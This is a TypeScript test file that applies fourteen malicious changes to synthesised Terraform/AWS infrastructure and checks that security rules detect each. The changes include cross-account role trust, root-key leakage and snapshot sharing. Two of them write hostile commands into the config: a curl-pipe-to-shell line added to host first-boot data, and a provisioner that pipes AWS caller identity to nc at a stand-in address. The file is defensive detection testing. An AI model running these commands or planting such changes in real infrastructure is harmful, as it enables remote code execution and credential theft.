import { expect } from "chai";
import { findings } from "../../../infra/aws/forbidden/table.ts";
import { addStatement, HOST, INGRESS, inside, REGISTRY, ref, rule } from "./mutation.ts";
import { copyOf, type OpenSynthesis, synthesised } from "./synthesised.ts";

/** What somebody would do who may change the code and means harm: what, how, and the rules that see it. */
const HARM: readonly (readonly [what: string, how: (synthesis: OpenSynthesis) => void, seen: readonly string[]])[] = [
  [
    "lets a role of another account take the registry's",
    ({ resource }) =>
      addStatement(
        resource("registry", "aws_iam_role", "registry-role"),
        { Sid: "Service", Effect: "Allow", Principal: { AWS: "arn:aws:iam::999988887777:role/ops" }, Action: ["sts:AssumeRole"] },
        "assume_role_policy",
      ),
    ["not-granted"],
  ],
  [
    "writes the root's secret into the statement of the two others",
    ({ resource }) => {
      const own = resource("registry", "aws_iam_role_policy", "registry-own-policy");
      const other = "cross-stack-output-aws_secretsmanager_secretdevice-secretarn";
      own.policy = String(own.policy).replace(other, "cross-stack-output-aws_secretsmanager_secretroot-secretarn");
    },
    ["not-granted", "root-key-readable"],
  ],
  [
    "hides a policy behind an output that is called as another stack's",
    ({ stack, resource }) => {
      inside(stack("network"), "output").slip = { value: ref('file("policy.json")') };
      const state = "data.terraform_remote_state.cross-stack-reference-input-production-network.outputs.slip";
      resource("restricted", "aws_iam_role_policy", "web-1-policy").policy = ref(state);
    },
    ["unreadable-expression", "opaque-policy"],
  ],
  [
    "gives a host the registry's profile, from where the CAs' keys are read",
    ({ resource }) => {
      resource(...HOST).iam_instance_profile = "production-registry";
    },
    ["other-value"],
  ],
  [
    "opens the feed to one address of its own, quietly narrow",
    ({ put }) => put("network", INGRESS, "feed", rule("registry", { from_port: 8444, to_port: 8444, cidr_ipv4: "198.51.100.9/32" })),
    ["unlisted-flow"],
  ],
  [
    "lets the registry believe whoever writes a PROXY header",
    ({ resource }) => {
      const registry = resource(...REGISTRY);
      registry.user_data = String(registry.user_data).replace("- 10.20.1.0/24", "- 10.20.0.0/16");
    },
    ["gate-opened"],
  ],
  [
    "turns lane roaming on, on one host",
    ({ resource }) => {
      const host = resource(...HOST);
      host.user_data = String(host.user_data).replace("roaming: false", "roaming: true");
    },
    ["gate-opened"],
  ],
  [
    "adds a line to what a host does at its first boot",
    ({ resource }) => {
      const host = resource(...HOST);
      host.user_data = String(host.user_data).replace(
        "systemctl daemon-reload\n",
        "curl -s https://203.0.113.9/x | sh\nsystemctl daemon-reload\n",
      );
    },
    ["other-first-boot"],
  ],
  [
    "shares snapshots of the registry's volume with another account",
    ({ resource }) => {
      const details = inside(resource("registry", "aws_dlm_lifecycle_policy", "snapshots"), "policy_details");
      inside(details, "schedule").share_rule = [{ target_accounts: ["999988887777"] }];
    },
    ["unlisted-resource"],
  ],
  [
    "uploads another package under the name of ours, with its own checksum",
    ({ resource }) => {
      const object = resource("registry", "aws_s3_object", "package-entityos-agent_010_alldeb");
      object.source = "../../../../tmp/entityos-agent_0.1.0_all.deb";
    },
    ["unchecked-packages"],
  ],
  [
    "runs a program where Terraform runs",
    ({ resource }) => {
      resource(...HOST).provisioner = [{ "local-exec": { command: "aws sts get-caller-identity | nc 203.0.113.9 443" } }];
    },
    ["unlisted-resource"],
  ],
  [
    "sends the root's key out in a tag",
    ({ resource }) => {
      inside(resource("pki", "aws_kms_key", "pki-key"), "tags").note = ref("tls_private_key.root-key.private_key_pem");
    },
    ["keys-outside-pki"],
  ],
  [
    "sends names of the service to a load balancer of its own",
    ({ resource }) => {
      inside(resource("dns", "aws_route53_record", "service-ipv4"), "alias").name = "eve.elb.eu-central-1.amazonaws.com";
    },
    ["other-value"],
  ],
  [
    "reads the network from a state of its own",
    ({ stack }) => {
      const states = inside(inside(stack("registry"), "data"), "terraform_remote_state");
      inside(inside(states, "cross-stack-reference-input-production-network"), "config").bucket = "eves-states";
    },
    ["other-state"],
  ],
];

describe("somebody who means harm", function () {
  this.timeout(240_000);
  for (const [what, how, seen] of HARM)
    it(`${what}: it is seen`, () => {
      const copy = copyOf(synthesised("production"));
      how(copy);
      const rules = new Set(findings(copy.synthesis).map((finding) => finding.split(":", 1)[0]));
      expect([...rules]).to.include.members([...seen]);
    });
});
